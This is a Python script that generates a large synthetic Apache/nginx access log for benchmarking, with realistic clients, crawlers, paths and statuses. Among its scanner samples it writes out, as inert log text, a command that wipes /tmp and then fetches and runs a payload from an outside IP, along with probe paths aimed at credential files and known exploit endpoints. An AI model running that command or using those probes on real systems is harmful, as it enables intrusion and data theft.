"""Generate a realistic Apache/nginx `combined` access log, fast.

    python benchmarks/gen_log.py --lines 10000000 --out benchmarks/data/combined-10000000.log
    python benchmarks/gen_log.py --lines 1000000 --out access.log.gz --gzip

Every line is built column-wise with numpy and polars (no Python loop per line): a few thousand
clients (IPv4 and IPv6, crawlers from their operators' usual ranges), each with its own user agent
(browsers, search and AI crawlers, curl, python-requests, ...), times over several days with a
daily rhythm and a +0100 offset, GET/POST/HEAD/..., pages, static files, API calls and scanner
probes with and without query strings, statuses, byte counts ("-" for empty bodies) and referers.
A small share of lines carry the binary request lines scanners send (nginx `\\xNN` escapes).
Lines average about 250 bytes: 10 million lines make about 2.5 GB. The same seed gives the same
file.
"""

from __future__ import annotations

import argparse
import gzip
import os
import sys
import time
from datetime import UTC, datetime
from pathlib import Path

import numpy as np
import polars as pl

CHUNK_LINES = 1_000_000
DAYS = 7
START = datetime(2025, 3, 9, 23, tzinfo=UTC)  # 10 March 00:00 at +0100 (CET, before DST)
OFFSET_S = 3600
SITE = "https://www.northwind.shop"
JUNK_SHARE = 0.0002  # binary / empty request lines, as scanners send

# --- user agents -------------------------------------------------------------------------------

WINDOWS = ["Windows NT 10.0; Win64; x64", "Windows NT 10.0; WOW64", "Windows NT 6.1; Win64; x64"]
MACS = ["Macintosh; Intel Mac OS X 10_15_7", "Macintosh; Intel Mac OS X 14_5", "Macintosh; Intel Mac OS X 13_6_7"]
LINUXES = ["X11; Linux x86_64", "X11; Ubuntu; Linux x86_64", "X11; Fedora; Linux x86_64"]
ANDROIDS = [
    "Linux; Android 10; K",
    "Linux; Android 14; SM-S918B",
    "Linux; Android 13; Pixel 7",
    "Linux; Android 12; SM-A525F",
    "Linux; Android 14; Pixel 8 Pro",
    "Linux; Android 11; M2101K6G",
]
IOS = ["17_5_1", "17_6", "18_0", "18_1_1", "18_2", "16_7_10"]


def browser_agents() -> list[str]:
    out = []
    for v in range(118, 134):
        for os_ in WINDOWS + MACS + LINUXES:
            out.append(f"Mozilla/5.0 ({os_}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36")
        for os_ in ANDROIDS:
            out.append(
                f"Mozilla/5.0 ({os_}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Mobile Safari/537.36"
            )
        out.append(
            f"Mozilla/5.0 ({WINDOWS[0]}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 "
            f"Safari/537.36 Edg/{v}.0.{2000 + v * 7}.{v % 90}"
        )
    for v in range(115, 135):
        for os_ in WINDOWS + LINUXES:
            out.append(f"Mozilla/5.0 ({os_}; rv:{v}.0) Gecko/20100101 Firefox/{v}.0")
        out.append(f"Mozilla/5.0 (Android 14; Mobile; rv:{v}.0) Gecko/{v}.0 Firefox/{v}.0")
    for ios in IOS:
        ver = ios.split("_")[0]
        out.append(
            f"Mozilla/5.0 (iPhone; CPU iPhone OS {ios} like Mac OS X) AppleWebKit/605.1.15 "
            f"(KHTML, like Gecko) Version/{ver}.0 Mobile/15E148 Safari/604.1"
        )
        out.append(
            f"Mozilla/5.0 (iPad; CPU OS {ios} like Mac OS X) AppleWebKit/605.1.15 "
            f"(KHTML, like Gecko) Version/{ver}.0 Mobile/15E148 Safari/604.1"
        )
    for v in ("17.5", "17.6", "18.0", "18.1", "18.2"):
        out.append(f"Mozilla/5.0 ({MACS[0]}) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{v} Safari/605.1.15")
    for v in ("25.0", "26.0", "27.0"):
        out.append(
            f"Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) "
            f"SamsungBrowser/{v} Chrome/121.0.0.0 Mobile Safari/537.36"
        )
    return out


# (user agent, address prefixes its operator crawls from, share of the crawler traffic)
CRAWLERS = [
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", ["66.249.66.", "66.249.79."], 8),
    (
        "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/131.0.6778.204 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        ["66.249.66.", "66.249.68."],
        8,
    ),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) "
        "Chrome/116.0.1938.76 Safari/537.36",
        ["40.77.167.", "157.55.39.", "207.46.13."],
        5,
    ),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
        ["20.171.206.", "20.171.207.", "52.230.152."],
        7,
    ),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; +https://openai.com/bot",
        ["23.98.142.", "40.84.180."],
        3,
    ),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; OAI-SearchBot/1.0; "
        "+https://openai.com/searchbot",
        ["20.42.10.", "51.8.102."],
        2,
    ),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
        ["216.73.216.", "34.162.46."],
        6,
    ),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Claude-User/1.0; +Claude-User@anthropic.com)",
        ["216.73.216."],
        1,
    ),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; "
        "+https://perplexity.ai/perplexitybot)",
        ["44.221.181.", "54.90.207."],
        2,
    ),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Perplexity-User/1.0; "
        "+https://perplexity.ai/perplexity-user)",
        ["107.20.236."],
        1,
    ),
    (
        "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 "
        "(compatible; Bytespider; spider-feedback@bytedance.com)",
        ["110.249.201.", "111.225.148."],
        5,
    ),
    (
        "meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
        ["57.141.0.", "57.141.2."],
        3,
    ),
    ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", ["69.171.230.", "173.252.83."], 1),
    ("Mozilla/5.0 (compatible; Applebot/0.1; +http://www.apple.com/go/applebot)", ["17.241.75.", "17.22.237."], 2),
    ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", ["5.39.1.", "54.36.148."], 4),
    ("Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", ["185.191.171."], 3),
    ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", ["213.180.203.", "5.255.231."], 2),
    ("DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", ["20.191.45."], 1),
    ("CCBot/2.0 (https://commoncrawl.org/faq/)", ["18.97.9.", "18.97.14."], 2),
    (
        "Mozilla/5.0 (compatible; Amazonbot/0.1; +https://developer.amazon.com/support/amazonbot) Chrome/119.0.6045.214 "
        "Safari/537.36",
        ["52.70.240.", "3.224.220."],
        2,
    ),
    ("Twitterbot/1.0", ["199.16.157."], 1),
    ("Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", ["69.162.124.", "216.144.250."], 1),
]

TOOLS = (
    [f"curl/{v}" for v in ("7.68.0", "7.81.0", "7.88.1", "8.4.0", "8.5.0", "8.7.1", "8.9.1", "8.11.1")]
    + [f"python-requests/{v}" for v in ("2.25.1", "2.28.2", "2.31.0", "2.32.3")]
    + [f"python-httpx/{v}" for v in ("0.25.2", "0.27.0", "0.28.1")]
    + [
        "Go-http-client/1.1",
        "Go-http-client/2.0",
        "Wget/1.21.2",
        "Wget/1.21.4",
        "okhttp/4.12.0",
        "axios/1.6.8",
        "axios/1.7.9",
        "Scrapy/2.11.2 (+https://scrapy.org)",
        "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.6778.85 Safari/537.36",
        "Mozilla/5.0 zgrab/0.x",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "Java/17.0.9",
        "libwww-perl/6.72",
        "Apache-HttpClient/4.5.14 (Java/17.0.8)",
        "-",
    ]
)

# --- paths ---------------------------------------------------------------------------------------

WORDS = (
    "organic cotton linen wool merino recycled classic slim relaxed waterproof trail city summer "
    "winter heritage everyday lightweight insulated packable vintage denim canvas leather suede "
    "shirt tshirt hoodie jacket parka sneaker boot sandal backpack tote beanie scarf sock chino "
    "short dress skirt sweater cardigan vest blue black navy olive sand grey white red green"
).split()
CATEGORIES = ["men", "women", "kids", "shoes", "bags", "accessories", "outdoor", "sale", "new-arrivals"]
PROBES = [
    "/.env",
    "/.git/config",
    "/wp-login.php",
    "/xmlrpc.php",
    "/wp-admin/setup-config.php",
    "/phpmyadmin/",
    "/admin/config.php",
    "/.aws/credentials",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/luci/;stok=/locale",
    "/boaform/admin/formLogin",
    "/actuator/health",
    "/server-status",
    "/.DS_Store",
    "/config.json",
    "/backup.zip",
    "/wp-content/plugins/wp-file-manager/readme.txt",
    "/index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction",
    "/shell.php",
    "/HNAP1/",
    "/owa/auth/logon.aspx",
]


def slug(rng: np.random.Generator, n: int) -> str:
    return "-".join(rng.choice(WORDS, n))


def build_paths(rng: np.random.Generator) -> tuple[list[str], np.ndarray, np.ndarray, np.ndarray]:
    """The site's URLs: (paths, kind per path, weight per path); kind 0 page, 1 static, 2 api, 3 probe."""
    paths, kinds = [], []

    def add(p: str, kind: int) -> None:
        paths.append(p)
        kinds.append(kind)

    utm = [
        "utm_source=newsletter&utm_medium=email&utm_campaign=spring-sale",
        "utm_source=google&utm_medium=cpc&utm_campaign=brand&gclid=Cj0KCQiA2KitBhCIARIsAPPMEhK",
        "utm_source=facebook&utm_medium=social&fbclid=IwAR2xk9fQ7bJm1oPq",
        "ref=homepage-hero",
    ]
    for i in range(6000):
        cat = CATEGORIES[i % len(CATEGORIES)]
        base = f"/products/{cat}/{slug(rng, 2 + i % 3)}-{10000 + i}"
        add(base, 0)
        if i % 4 == 0:
            add(f"{base}?color={rng.choice(WORDS[-8:])}&size={rng.choice(['xs', 's', 'm', 'l', 'xl'])}", 0)
        if i % 9 == 0:
            add(f"{base}?{utm[i % len(utm)]}", 0)
    for i in range(1500):
        add(f"/blog/{2019 + i % 6}/{1 + i % 12:02d}/{slug(rng, 3 + i % 3)}", 0)
    for cat in CATEGORIES:
        add(f"/collections/{cat}", 0)
        for page in range(2, 30):
            add(f"/collections/{cat}?page={page}&sort={rng.choice(['price-asc', 'price-desc', 'newest'])}", 0)
    for i in range(1500):
        add(f"/search?q={'+'.join(rng.choice(WORDS, 1 + i % 3))}&page={1 + i % 4}", 0)
    for p in (
        "/",
        "/about",
        "/contact",
        "/cart",
        "/checkout",
        "/account/login",
        "/account/orders",
        "/faq",
        "/shipping-returns",
        "/stores",
        "/gift-cards",
        "/robots.txt",
        "/sitemap.xml",
        "/feed.xml",
    ):
        add(p, 0)
    for i in range(400):
        h = "".join(rng.choice(list("0123456789abcdef"), 10))
        ext = ["js", "css", "woff2", "svg"][i % 4]
        add(f"/static/{ext}/{['app', 'vendor', 'checkout', 'fonts', 'icons'][i % 5]}.{h}.{ext}", 1)
    for i in range(3000):
        add(f"/images/products/{10000 + i * 2}/{slug(rng, 2)}-{['front', 'back', 'detail'][i % 3]}_800x.webp", 1)
    add("/favicon.ico", 1)
    add("/apple-touch-icon.png", 1)
    for i in range(1500):
        add(f"/api/v2/products/{10000 + i}/availability?store={100 + i % 40}&locale=en-GB", 2)
    for _ in range(300):
        add(f"/api/v2/cart/items?session={''.join(rng.choice(list('0123456789abcdef'), 16))}", 2)
    add("/api/v2/recommendations?limit=12", 2)
    for p in PROBES:
        add(p, 3)
    kind = np.array(kinds, dtype=np.int8)
    # Popularity: Zipf-like within each kind, and a share of all requests for each kind.
    weight = np.empty(len(paths))
    share = {0: 0.55, 1: 0.33, 2: 0.115, 3: 0.005}
    for k, s in share.items():
        idx = np.flatnonzero(kind == k)
        w = 1.0 / (1 + rng.permutation(len(idx))) ** 0.9
        weight[idx] = s * w / w.sum()
    weight /= weight.sum()
    return paths, kind, weight, np.array([len(p) for p in paths])


def build_referers(rng: np.random.Generator, paths: list[str], kind: np.ndarray) -> tuple[list[str], np.ndarray]:
    pages = [p for p, k in zip(paths, kind) if k == 0]
    internal = [SITE + p for p in rng.choice(pages, 2500, replace=False)]
    search = [
        "https://www.google.com/",
        "https://www.google.co.uk/",
        "https://www.google.de/",
        "https://www.bing.com/",
        "https://duckduckgo.com/",
        "https://search.yahoo.com/",
        "https://www.ecosia.org/",
        "https://yandex.ru/",
    ]
    external = [
        "https://news.ycombinator.com/",
        "https://t.co/x8KqB3mZ2a",
        "https://l.facebook.com/",
        "https://www.reddit.com/r/malefashionadvice/comments/1b2c3d4/spring_jackets/",
        "https://www.instagram.com/",
        "https://chatgpt.com/",
        "https://www.perplexity.ai/",
        "android-app://com.google.android.gm/",
        "https://www.pinterest.com/pin/8734567890123/",
    ]
    refs = ["-"] + internal + search + external
    w = np.concatenate(
        [
            [0.42],
            np.full(len(internal), 0.38 / len(internal)),
            np.full(len(search), 0.15 / len(search)),
            np.full(len(external), 0.05 / len(external)),
        ]
    )
    return refs, w / w.sum()


def build_clients(
    rng: np.random.Generator, n_clients: int = 4000
) -> tuple[list[str], np.ndarray, np.ndarray, list[str]]:
    """(addresses, user-agent index per client, request weight per client, user agents)."""
    browsers = browser_agents()
    crawlers = [c[0] for c in CRAWLERS]
    agents = browsers + crawlers + TOOLS
    n_bots = 600
    n_tools = 300
    n_humans = n_clients - n_bots - n_tools
    addrs: list[str] = []
    ua = np.empty(n_clients, dtype=np.int64)
    weight = np.empty(n_clients)
    seen: set[str] = set()

    def unique(make) -> str:
        while True:
            a = make()
            if a not in seen:
                seen.add(a)
                return a

    def v4() -> str:
        first = int(
            rng.choice(
                [
                    24,
                    31,
                    37,
                    46,
                    62,
                    73,
                    78,
                    81,
                    82,
                    86,
                    88,
                    90,
                    92,
                    94,
                    98,
                    109,
                    151,
                    176,
                    178,
                    185,
                    188,
                    193,
                    195,
                    203,
                    212,
                    217,
                ]
            )
        )
        return f"{first}.{rng.integers(0, 256)}.{rng.integers(0, 256)}.{rng.integers(1, 255)}"

    def v6() -> str:
        pre = str(rng.choice(["2a01:cb1d", "2a02:8108", "2001:861", "2a00:23c7", "2600:1700", "2607:fb90"]))
        groups = ":".join(f"{x:x}" for x in rng.integers(0, 65536, 4))
        return f"{pre}:{rng.integers(0, 65536):x}:{rng.integers(0, 65536):x}:{groups}"

    # People: Zipf-weighted, 15% on IPv6, mostly one browser each.
    for i in range(n_humans):
        addrs.append(unique(v6 if rng.random() < 0.15 else v4))
        ua[i] = rng.integers(0, len(browsers))
    weight[:n_humans] = 0.55 * (w := 1 / (1 + np.arange(n_humans)) ** 0.6) / w.sum()
    # Crawlers: from their operators' ranges, by their share of the crawler traffic.
    shares = np.array([c[2] for c in CRAWLERS], dtype=float)
    which = rng.choice(len(CRAWLERS), n_bots, p=shares / shares.sum())
    for j, c in enumerate(which):
        i = n_humans + j
        prefix = str(rng.choice(CRAWLERS[c][1]))
        addrs.append(unique(lambda prefix=prefix: f"{prefix}{rng.integers(1, 255)}"))
        ua[i] = len(browsers) + c
    bot_w = shares[which] / np.bincount(which, minlength=len(CRAWLERS))[which]
    weight[n_humans : n_humans + n_bots] = 0.33 * bot_w / bot_w.sum()
    # Scripts and scanners: cloud and hosting addresses.
    for j in range(n_tools):
        i = n_humans + n_bots + j
        addrs.append(
            unique(
                lambda: (
                    f"{rng.choice([3, 13, 18, 34, 35, 45, 104, 138, 139, 159, 167, 206])}."
                    f"{rng.integers(0, 256)}.{rng.integers(0, 256)}.{rng.integers(1, 255)}"
                )
            )
        )
        ua[i] = len(browsers) + len(crawlers) + rng.integers(0, len(TOOLS))
    weight[n_humans + n_bots :] = 0.12 * (w := 1 / (1 + np.arange(n_tools)) ** 0.8) / w.sum()
    return addrs, ua, weight / weight.sum(), agents


def time_grid(days: int) -> tuple[np.ndarray, np.ndarray]:
    """Minute marks over the span and the cumulative share of traffic at each: a daily rhythm."""
    minutes = np.arange(days * 24 * 60 + 1)
    hour = (minutes / 60.0) % 24
    rate = 1.0 + 0.8 * np.sin((hour - 9.0) / 24 * 2 * np.pi)  # quiet at night, busy in the evening
    rate[:-1] *= 1.0 + 0.1 * np.sin(minutes[:-1] / 37.0)
    cdf = np.concatenate([[0.0], np.cumsum(rate[:-1])])
    return minutes * 60.0, cdf / cdf[-1]


def generate(lines: int, out: Path, seed: int = 42, compress: bool = False, quiet: bool = False) -> float:
    """Write `lines` lines to `out` (gzip when `compress`); returns the seconds it took."""
    started = time.perf_counter()
    rng = np.random.default_rng(seed)
    paths, kind, path_w, _ = build_paths(rng)
    refs, ref_w = build_referers(rng, paths, kind)
    addrs, client_ua, client_w, agents = build_clients(rng)
    grid_s, grid_cdf = time_grid(DAYS)
    start_local = int(START.timestamp()) + OFFSET_S

    s_paths, s_refs, s_addrs, s_agents = (pl.Series(x, dtype=pl.String) for x in (paths, refs, addrs, agents))
    methods = pl.Series(["GET", "POST", "HEAD", "PUT", "DELETE", "OPTIONS", "PATCH"])
    method_w = np.array([0.905, 0.06, 0.02, 0.004, 0.003, 0.006, 0.002])
    crawler = np.zeros(len(addrs), dtype=bool)
    crawler[(client_ua >= len(agents) - len(TOOLS) - len(CRAWLERS)) & (client_ua < len(agents) - len(TOOLS))] = True
    protos = pl.Series(["HTTP/1.1", "HTTP/2.0", "HTTP/1.0"])
    proto_w = np.array([0.62, 0.36, 0.02])
    # Statuses by kind of path: pages, static files, API calls, scanner probes.
    statuses = [
        (np.array([200, 304, 301, 302, 404, 500, 503]), np.array([0.87, 0.04, 0.025, 0.02, 0.04, 0.003, 0.002])),
        (np.array([200, 304, 206, 404]), np.array([0.80, 0.17, 0.02, 0.01])),
        (np.array([200, 204, 400, 401, 404, 429, 500]), np.array([0.88, 0.05, 0.02, 0.02, 0.015, 0.01, 0.005])),
        (np.array([404, 403, 200, 301, 400]), np.array([0.82, 0.08, 0.05, 0.03, 0.02])),
    ]
    junk = pl.Series(
        [
            '"\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03\\xD2\\x9A" 400 157 "-" "-"',
            '"-" 408 0 "-" "-"',
            '"GET /shell?cd+/tmp;rm+-rf+*;wget+http://45.95.147.236/jaws;sh+/tmp/jaws HTTP/1.1" 400 157 "-" "-"',
            '"\\x03\\x00\\x00/*\\xE0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr" 400 157 "-" "-"',
        ]
    )

    out.parent.mkdir(parents=True, exist_ok=True)
    tmp = out.with_name(f".{out.name}.partial")
    opener = (lambda p: gzip.open(p, "wb", compresslevel=6)) if compress else (lambda p: open(p, "wb"))
    total_bytes = 0
    with opener(tmp) as fh:
        done = 0
        while done < lines:
            n = min(CHUNK_LINES, lines - done)
            # Times: sorted draws from this chunk's slice of the span's traffic curve.
            u = (done + np.sort(rng.random(n)) * n) / lines
            secs = np.interp(u, grid_cdf, grid_s).astype(np.int64) + start_local
            client = rng.choice(len(addrs), n, p=client_w)
            ua = client_ua[client].copy()
            swap = rng.random(n) < 0.03  # a few clients change their user agent now and then
            ua[swap] = rng.integers(0, len(agents) - len(TOOLS) - len(CRAWLERS), swap.sum())
            path = rng.choice(len(paths), n, p=path_w)
            pkind = kind[path]
            method = rng.choice(len(methods), n, p=method_w)
            # PUT/DELETE/OPTIONS/PATCH go to the API; static files and crawlers' pages are fetched.
            method[(pkind != 2) & (method >= 3)] = 0
            method[(pkind == 1) | (crawler[client] & (method == 1))] = 0
            status = np.empty(n, dtype=np.int64)
            for k, (codes, w) in enumerate(statuses):
                sel = pkind == k
                status[sel] = rng.choice(codes, sel.sum(), p=w)
            size = np.where(
                pkind == 1,
                rng.lognormal(10.2, 1.1, n),  # static: tens of kB
                np.where(pkind == 2, rng.lognormal(6.5, 0.9, n), rng.lognormal(9.8, 0.7, n)),
            ).astype(np.int64)
            size = np.where(np.isin(status, [301, 302]), 162 + (status - 301) * 7, size)
            size = np.where(status >= 400, rng.integers(150, 600, n), size)
            empty = np.isin(status, [304, 204]) | (method == 2)
            ref = rng.choice(len(refs), n, p=ref_w)
            ref = np.where(pkind == 3, 0, ref)  # scanners send no referer
            is_junk = rng.random(n) < JUNK_SHARE

            frame = pl.DataFrame(
                {
                    "client": pl.Series(client, dtype=pl.UInt32),
                    "secs": secs,
                    "method": pl.Series(method, dtype=pl.UInt32),
                    "path": pl.Series(path, dtype=pl.UInt32),
                    "proto": pl.Series(rng.choice(len(protos), n, p=proto_w), dtype=pl.UInt32),
                    "status": status,
                    "size": size,
                    "empty": empty,
                    "ref": pl.Series(ref, dtype=pl.UInt32),
                    "ua": pl.Series(ua, dtype=pl.UInt32),
                    "junk": is_junk,
                    "junk_kind": pl.Series(rng.integers(0, len(junk), n), dtype=pl.UInt32),
                }
            )
            text = frame.select(
                line=pl.when(pl.col("junk"))
                .then(
                    pl.concat_str(
                        pl.lit(s_addrs).gather(pl.col("client")),
                        pl.lit(" - - ["),
                        pl.from_epoch("secs", "s").dt.strftime("%d/%b/%Y:%H:%M:%S +0100"),
                        pl.lit("] "),
                        pl.lit(junk).gather(pl.col("junk_kind")),
                    )
                )
                .otherwise(
                    pl.concat_str(
                        pl.lit(s_addrs).gather(pl.col("client")),
                        pl.lit(" - - ["),
                        pl.from_epoch("secs", "s").dt.strftime("%d/%b/%Y:%H:%M:%S +0100"),
                        pl.lit('] "'),
                        pl.lit(methods).gather(pl.col("method")),
                        pl.lit(" "),
                        pl.lit(s_paths).gather(pl.col("path")),
                        pl.lit(" "),
                        pl.lit(protos).gather(pl.col("proto")),
                        pl.lit('" '),
                        pl.col("status").cast(pl.String),
                        pl.lit(" "),
                        pl.when(pl.col("empty")).then(pl.lit("-")).otherwise(pl.col("size").cast(pl.String)),
                        pl.lit(' "'),
                        pl.lit(s_refs).gather(pl.col("ref")),
                        pl.lit('" "'),
                        pl.lit(s_agents).gather(pl.col("ua")),
                        pl.lit('"'),
                    )
                )
            )
            data = (text["line"].str.join("\n").item() + "\n").encode()
            fh.write(data)
            total_bytes += len(data)
            done += n
            if not quiet and sys.stderr.isatty():
                print(f"\r  generated {done:,}/{lines:,} lines ({total_bytes / 1e9:.2f} GB)", end="", file=sys.stderr)
    os.replace(tmp, out)
    took = time.perf_counter() - started
    if not quiet:
        print(
            f"\r  generated {lines:,} lines, {total_bytes / 1e9:.2f} GB uncompressed "
            f"({total_bytes / max(lines, 1):.0f} bytes/line) in {took:.1f}s -> {out}",
            file=sys.stderr,
        )
    return took


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--lines", type=int, required=True, help="number of lines")
    ap.add_argument("--out", type=Path, required=True, help="file to write (replaced if it exists)")
    ap.add_argument("--seed", type=int, default=42, help="random seed (default 42)")
    ap.add_argument("--gzip", action="store_true", help="write gzip-compressed output")
    ap.add_argument("--quiet", action="store_true", help="no progress on standard error")
    a = ap.parse_args(argv)
    if a.lines < 1:
        ap.error("--lines must be at least 1")
    generate(a.lines, a.out, a.seed, a.gzip, a.quiet)
    return 0


if __name__ == "__main__":
    sys.exit(main())
